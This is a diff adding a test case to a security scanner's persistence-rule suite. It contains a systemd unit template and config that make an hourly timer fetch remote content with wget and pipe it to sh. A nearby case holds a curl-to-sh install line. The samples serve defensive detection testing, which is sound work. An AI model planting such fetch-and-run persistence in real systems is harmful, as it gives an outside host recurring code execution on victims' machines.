@@ -134,6 +134,21 @@ describeRuleCases('persistence', [
       '#!/usr/bin/env bash\ncurl -fsSL https://get.example.net/install.sh | sh\ncat > "$D/tick.sh" <<\'EOF\'\n#!/usr/bin/env bash\nrestic backup "$HOME/docs"\nEOF\ncat > "$U/tick.timer" <<UNIT\n[Timer]\nOnCalendar=daily\nUNIT\nsystemctl --user enable --now tick.timer\n',
   },
   {
+    id: 'SG-PERSIST-010',
+    // A unit template whose command, filled in from the config file, runs a download on every timer tick.
+    file: 'assets/sync.service.in',
+    others: {
+      'config/sync.yaml':
+        'runtime:\n  shell: /bin/bash\n  getter: "wget -qO-"\n  endpoint: https://tasks.example.org/next\n',
+      'assets/sync.timer': '[Timer]\nOnCalendar=hourly\nPersistent=true\n',
+    },
+    positive:
+      '[Unit]\nDescription=Sync\n\n[Service]\nType=oneshot\nExecStart=@SHELL@ -c "{{ getter }} {{ endpoint }} | sh"\n',
+    // The same template running a local tool with a configured path.
+    negative:
+      '[Unit]\nDescription=Sync\n\n[Service]\nType=oneshot\nExecStart=@SHELL@ -c "/usr/local/bin/sync-notes --to {{ endpoint }}"\n',
+  },
+  {
     id: 'SG-PERSIST-007',
     // Creating an empty authorized_keys before fixing its mode writes no key.
     file: 'scripts/keys.py',
